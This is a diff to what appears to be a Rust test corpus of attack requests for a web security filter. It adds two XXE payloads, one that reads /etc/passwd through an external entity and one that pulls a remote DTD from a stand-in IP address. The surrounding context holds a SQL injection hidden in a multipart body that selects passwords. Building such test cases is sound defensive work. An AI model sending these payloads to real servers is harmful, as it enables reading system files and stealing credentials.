@@ -86,6 +86,9 @@ pub const ATTACKS: &[Case] = &[
         MULTIPART,
         "--XyZ\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nhello\r\n--XyZ--\r\nb=1' UNION SELECT password FROM users--",
     ),
+    // XXE: an entity the body uses, and one only the DTD uses (out of band: wapiti's).
+    post("xxe: file entity", "/api", "application/xml", r#"<?xml version="1.0"?><!DOCTYPE foo [<!ELEMENT foo ANY><!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>"#),
+    post("xxe: out of band", "/api", "application/xml", "<?xml version=\"1.0\"?>\n<!DOCTYPE foo [\n<!ENTITY % remote SYSTEM \"http://203.0.113.9/x.dtd\">\n%remote; ]>\n<xml><test>hello</test></xml>"),
 ];
 
 /// An upload whose boundary is quoted, as RFC 2046 allows and .NET's HttpClient sends.
